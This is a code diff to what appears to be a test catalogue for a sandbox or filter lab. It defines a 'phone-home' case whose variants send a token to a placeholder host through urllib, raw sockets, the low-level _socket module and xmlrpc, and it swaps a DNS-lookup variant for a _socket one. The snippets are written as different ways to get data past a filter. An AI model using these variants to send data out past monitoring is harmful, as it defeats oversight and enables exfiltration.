@@ -5,7 +5,7 @@ from belljar_lab.filtered.spellings import Spelling
 
 NAME = "phone-home"
 DOES = "sends a token to a public address"
-SUCCESS = "the server, or the resolver that was asked, received the token"
+SUCCESS = "the server there received the token"
 
 ROWS = [
     Spelling("plain", "urllib", r"""
@@ -27,10 +27,13 @@ with socket.create_connection(("@HOST@", 80)) as peer:
     peer.sendall(b"GET /@TOKEN@ HTTP/1.0\r\n\r\n")
     print(peer.recv(1000))
 """),
-    Spelling("name-lookup", "a name that is looked up, by the module beneath socket", r"""
+    Spelling("socket-beneath", "the module beneath socket", r"""
 import _socket
 
-_socket.gethostbyname("@TOKEN@.example.test")
+peer = _socket.socket()
+peer.connect(("@HOST@", 80))
+peer.send(b"GET /@TOKEN@ HTTP/1.0\r\n\r\n")
+print(peer.recv(1000))
 """),
     Spelling("xmlrpc", "a procedure called at the other side", r"""
 from xmlrpc.client import ServerProxy
